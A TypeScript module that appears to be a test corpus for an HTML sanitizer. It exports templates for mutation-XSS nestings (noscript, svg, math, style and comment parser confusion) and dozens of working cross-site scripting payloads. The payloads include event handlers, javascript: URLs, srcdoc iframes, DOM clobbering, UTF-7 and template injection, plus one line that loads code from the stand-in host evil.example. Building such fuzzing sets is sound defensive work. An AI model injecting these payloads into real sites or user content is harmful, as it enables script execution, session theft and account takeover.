/**
 * Markup that is read in one way by a cleaner and in another by a browser, around something that runs: mutation, halves
 * of elements, foreign content, comments. `evil` runs by itself where it is an element.
 */
export const NESTINGS: readonly ((evil: string) => string)[] = [
  (evil) => evil,
  (evil) => `<p>前${evil}后</p>`,
  (evil) => `<table><tr><td>${evil}</td></tr></table>`,
  (evil) => `<table>${evil}<tr><td>格</td></tr></table>`,
  (evil) => `<ul><li>${evil}</ul>`,
  (evil) => `<p><a href="https://example.org/">${evil}</a></p>`,
  (evil) => `<noscript><p title="</noscript>${evil}">x</p></noscript>`,
  (evil) => `<noscript>${evil}</noscript>`,
  (evil) => `<template>${evil}</template>`,
  (evil) => `<textarea>${evil}</textarea><textarea></textarea>${evil}`,
  (evil) => `<title></title>${evil}`,
  (evil) => `<style><!--</style>${evil}--></style>`,
  (evil) => `<xmp></xmp>${evil}`,
  (evil) => `<!--><p>${evil}-->`,
  (evil) => `<!-- --!>${evil}`,
  (evil) => `<![CDATA[<x>]]>${evil}`,
  (evil) => `<?xml version="1.0"?>${evil}`,
  (evil) => `<svg><p>${evil}`,
  (evil) => `<svg></p><style><g title="</style>${evil}">`,
  (evil) => `<svg><foreignObject>${evil}</foreignObject></svg>`,
  (evil) => `<svg><desc>${evil}</desc><title>${evil}</title></svg>`,
  (evil) => `<math><mtext>${evil}</mtext></math>`,
  (evil) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${evil.replace(/</g, '&lt;').replace(/"/g, '&quot;')}"></mglyph></table></mtext></math>`,
  (evil) => `<math><annotation-xml encoding="text/html">${evil}</annotation-xml></math>`,
  (evil) => `<math><mtext><mglyph><svg><mtext><style><path id="</style>${evil}">`,
  (evil) => `<form><math><mtext></form><form><mglyph><style></math>${evil}`,
  (evil) => `<select><option>${evil}</option></select>`,
  (evil) => `<select><template><style><!--</style>${evil}--></template></select>`,
  (evil) =>
    `<iframe srcdoc='${evil.replace(/'/g, '&#39;').replace(/window\.__ran/g, 'parent.__ran')}'></iframe>`,
  (evil) => `<object>${evil}</object><video>${evil}</video><canvas>${evil}</canvas>`,
  (evil) => `<details open><summary>${evil}</summary></details>`,
  (evil) => `<h2>${evil}</h2><blockquote>${evil}</blockquote>`,
  (evil) => `<ruby>字<rt>${evil}</rt></ruby>`,
  (evil) => `<b><p></b>${evil}</p>`,
  (evil) => `<<p>>${evil}<</p>>`,
  (evil) => `<p\u0000>${evil}</p\u0000>`,
  (evil) => `<x-y><slot>${evil}</slot></x-y>`,
  (evil) => `<p is="x-y">${evil}</p>`,
  (evil) => `${'<b><i>'.repeat(40)}${evil}`,
  (evil) => `<figure><figcaption>${evil}</figcaption></figure>`,
  (evil) => `<plaintext>${evil}`,
];

/** What runs by itself, put into each nesting. */
export const CORES: readonly ((script: string) => string)[] = [
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<svg/onload=${script}>`,
  (script) => `<script>${script}</script>`,
];

/** Whole attacks of kinds that the tables do not make. */
export const ODDITIES: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<script>${script}`,
  (script) => `<SCRIPT\n>${script}</SCRIPT\t>`,
  (script) => `<script/x>${script}</script>`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script) => `<script type="text/javascript">//<![CDATA[\n${script}\n//]]></script>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><script href="data:text/javascript,${script}"/></svg>`,
  (script) => `<svg><a xlink:href="javascript:${script}"><text x=9 y=9>字</text></a></svg>`,
  (script) =>
    `<svg><animate attributeName=href values="javascript:${script}"/><a id=x><text>字</text></a></svg>`,
  (script) => `<svg><set attributeName=onload to="${script}"/></svg>`,
  (script) => `<svg><animate onbegin="${script}" attributeName=x dur=1s></svg>`,
  (script) =>
    `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${script}'/&gt;&lt;/svg&gt;#x"/></svg>`,
  (script) => `<math><maction actiontype="statusline#" xlink:href="javascript:${script}">字</maction></math>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:parent.${script}"></iframe>`,
  (script) => `<object data="data:text/html,<script>parent.${script}</script>"></object>`,
  (script) => `<embed src="javascript:${script}">`,
  (script) => `<form id=x></form><button form=x formaction="javascript:${script}">钮</button>`,
  (script) => `<isindex type=image src=x onerror="${script}">`,
  (script) => `<style>*{x:expression(${script})}</style><p style="x:expression(${script})">字</p>`,
  (script) =>
    `<p style="-moz-binding:url(https://evil.example/x.xml#x);behavior:url(#default#time2)">${script}</p>`,
  (script) => `<link rel=stylesheet href="data:text/css,*{x:expression(${script})}">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) =>
    `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>${script}</script>`,
  (script) => `<meta charset=utf-7>+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  (script) => `<base href="javascript:${script}//"><a href="#">链</a>`,
  (script) => `<a href="javascript:${script}" target=_self id=root name=root class=frame-header>名</a>`,
  (script) =>
    `<form name=body><input name=attributes><input name=innerHTML></form><img name=getElementById src=x onerror=${script}>`,
  (script) =>
    `<a id=__proto__ name=__proto__><img id=implementation name=createElement src=x onerror=${script}>`,
  (script) =>
    `<input type=hidden oncontentvisibilityautostatechange=${script} style=content-visibility:auto>`,
  (script) => `<p popover id=p onbeforetoggle="${script}">字</p><button popovertarget=p>钮</button>`,
  (script) =>
    `<a href="https://example.org/" onclick="${script}" onmouseover="${script}" onpointerenter="${script}">链</a>`,
  (script) =>
    `<p onclick="${script}" onwheel="${script}" onpointermove="${script}" oncopy="${script}">字</p>`,
  (script) => `<xss onfocus="${script}" tabindex=1 autofocus>字</xss>`,
  (script) => `<x contenteditable autofocus onfocus="${script}">字</x>`,
  (script) => `[链](javascript:${script}) ![图](javascript:${script}) <javascript:${script}>`,
  (script) => `[链]: javascript:${script}\n[链]`,
  (script) => `{{constructor.constructor('${script}')()}} \${${script}} <%= ${script} %> #{${script}}`,
  (script) => `{% include "x" onerror=${script} %}{{< raw >}}<img src=x onerror=${script}>{{< /raw >}}`,
  (script) => `"><img src=x onerror=${script}>'><svg onload=${script}>--><script>${script}</script>`,
  (script) => `</p></div></article></body></html><script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `</textarea></title></style></noscript><img src=x onerror=${script}>`,
];
